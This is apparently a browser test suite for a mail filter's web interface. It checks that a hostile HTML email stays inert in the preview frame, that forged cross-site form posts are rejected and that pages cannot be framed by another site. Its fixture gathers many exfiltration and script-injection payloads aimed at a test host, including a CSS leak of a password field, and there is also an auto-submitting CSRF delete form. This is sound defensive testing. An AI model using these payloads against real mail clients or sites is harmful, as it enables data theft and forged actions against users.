"""Hostile mail and hostile sites: nothing of a message runs or loads, no other site acts here."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from filterd.web.preview import FRAME_POLICY
from tests.browser.site import Site, message
from tests.browser.stranger import Stranger

HOSTILE = """<!DOCTYPE html><html><head>
<title>stolen</title>
<base href="{url}/base/">
<meta http-equiv="refresh" content="0;url={url}/refresh">
<link rel="stylesheet" href="{url}/style.css">
<link rel="prefetch" href="{url}/prefetch"><link rel="dns-prefetch" href="{url}">
<style>
@import url({url}/import.css);
@font-face {{ font-family: f; src: url({url}/font.woff) }}
body {{ background: url({url}/background.png); font-family: f }}
input[value^="a"] {{ background: url({url}/leak) }}
.over {{ position: fixed; inset: 0; background: red; z-index: 9999 }}
</style>
<script>window.ran = true; top.ran = true; document.title = "ran"; alert("ran");
fetch("{url}/fetch"); new Image().src = "{url}/image"; console.log("ran")</script>
<script src="{url}/script.js"></script>
</head><body onload="fetch('{url}/onload')" background="{url}/body.png">
<p>Visible words</p>
<div class="over" style="background: url({url}/inline.png)">cover</div>
<img src="{url}/pixel.gif" alt="a picture" onerror="fetch('{url}/onerror')">
<img srcset="{url}/srcset.png 1x"><picture><source srcset="{url}/source.png"><img></picture>
<input type="image" src="{url}/input.png">
<form id="f" action="{url}/form" method="post"><input name="password" value="abc" autofocus
 onfocus="fetch('{url}/focus')"><button formaction="{url}/formaction">Log in again</button></form>
<a href="{url}/link" target="_top" ping="{url}/ping">Click here</a>
<a href="javascript:fetch('{url}/javascript')">or here</a>
<iframe src="{url}/iframe"></iframe>
<iframe srcdoc="<script>parent.ran = true; fetch('{url}/srcdoc')</script>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
<video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/audio"></audio>
<svg><image href="{url}/svg.png"/><use href="{url}/use.svg#x"/><script>top.ran = true</script>
<animate onbegin="fetch('{url}/animate')" attributeName="x" dur="1s"/></svg>
<details open ontoggle="fetch('{url}/toggle')"><summary>more</summary>x</details>
<math><annotation-xml encoding="text/html"><img src="{url}/math.png"></annotation-xml></math>
<noscript><img src="{url}/noscript.png"></noscript>
<table background="{url}/table.png"><tr><td background="{url}/cell.png">cell</td></tr></table>
</body></html>
"""

SETTLE = 1000
"""Milliseconds in which whatever would load would have begun to."""


def test_nothing_of_a_message_runs_or_loads(site: Site, stranger: Stranger) -> None:
    id = site.put(message("hostile", HOSTILE.format(url=stranger.url).encode(), "html"))
    visit = site.logged_in()
    visit.page.goto(f"{site.url}/message/{id}")
    frame = visit.page.frame_locator("iframe.preview")
    visit.page.locator("iframe.preview").scroll_into_view_if_needed()
    expect(frame.get_by_text("Visible words")).to_be_visible()
    frame.get_by_text("Click here").click()
    frame.get_by_text("or here").click()
    visit.page.wait_for_timeout(SETTLE)
    assert [url for url in visit.asked if not url.startswith(site.url + "/")] == []
    assert stranger.asked == []
    assert any(url.endswith("/part/0") for url in visit.asked), "the log has the frame"
    assert visit.page.title() == "hostile · filterd"
    assert visit.page.evaluate("window.ran") is None
    assert visit.page.frames[1].evaluate("[window.ran, document.forms.length]") == [None, 0]
    assert visit.said == []
    expect(visit.page.get_by_role("button", name="Release", exact=True)).to_be_visible()
    assert len(visit.context.pages) == 1
    visit.page.get_by_text("links in it").click()
    assert f"{stranger.url}/link" in visit.text, "where it leads is told"


def test_the_frames_policy_alone_would_be_enough(site: Site, stranger: Stranger) -> None:
    """The message as it is, not sanitised, under the policy and in the frame that we use."""
    stranger.pages["/raw"] = (
        HOSTILE.format(url=stranger.url),
        {"Content-Security-Policy": FRAME_POLICY},
    )
    stranger.pages["/outer"] = ('<iframe src="/raw" sandbox=""></iframe>', {})
    visit = site.visit()
    visit.page.goto(f"{stranger.url}/outer")
    visit.page.wait_for_timeout(SETTLE)
    assert visit.page.evaluate("window.ran") is None
    assert visit.page.frames[1].evaluate("window.ran") is None
    loaded = set(stranger.asked) - {"/outer", "/raw", "/favicon.ico"}
    # A page may always send itself elsewhere; taking <meta> out is the sanitiser's part, and our
    # own page's frame-src forbids the target.
    assert loaded <= {"/refresh"}


def test_this_message_would_do_harm_elsewhere(site: Site, stranger: Stranger) -> None:
    """The two tests above look for what does happen without protection."""
    stranger.pages["/raw"] = (HOSTILE.format(url=stranger.url), {})
    visit = site.visit()
    visit.page.goto(f"{stranger.url}/raw")
    visit.page.wait_for_timeout(SETTLE)
    assert {"/style.css", "/script.js", "/fetch", "/refresh"} <= set(stranger.asked)
    assert "ran" in visit.said


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["same site", "other site"])
def test_another_sites_form_does_nothing(site: Site, stranger: Stranger, host: str) -> None:
    """Another port of the same host is the same site to a browser: the cookie comes along."""
    id = site.put(message("stays"))
    visit = site.logged_in()
    stranger.pages["/attack"] = (
        f'<form id="f" method="post" action="{site.url}/quarantine/do">'
        f'<input name="do" value="delete"><input name="id" value="{id}">'
        '<input name="csrf" value="guessed"></form><script>f.submit()</script>',
        {},
    )
    with visit.page.expect_response(f"{site.url}/quarantine/do") as answer:
        visit.page.goto(stranger.url.replace("127.0.0.1", host) + "/attack")
    assert answer.value.status == 403
    assert site.state(id) == "held"
    assert site.events(id) == []
    visit.page.goto(f"{site.url}/message/{id}")
    expect(visit.page.get_by_role("heading", name="stays")).to_be_visible()


def test_another_site_cannot_frame_the_pages(site: Site, stranger: Stranger) -> None:
    id = site.put(message("not in a frame"))
    visit = site.logged_in()
    stranger.pages["/outer"] = (f'<iframe src="{site.url}/message/{id}"></iframe>', {})
    visit.page.goto(f"{stranger.url}/outer")
    visit.page.wait_for_timeout(SETTLE)
    assert "not in a frame" not in visit.page.frames[1].content()


def test_a_raw_message_is_a_download_whatever_it_says(site: Site, stranger: Stranger) -> None:
    data = HOSTILE.format(url=stranger.url).encode()
    id = site.put(data)
    visit = site.logged_in()
    visit.page.goto(f"{site.url}/message/{id}")
    with visit.page.expect_download() as download:
        visit.page.get_by_role("link", name="Download the exact bytes").click()
    assert download.value.path().read_bytes() == data
    assert download.value.suggested_filename == f"{id}.eml"
    assert stranger.asked == []
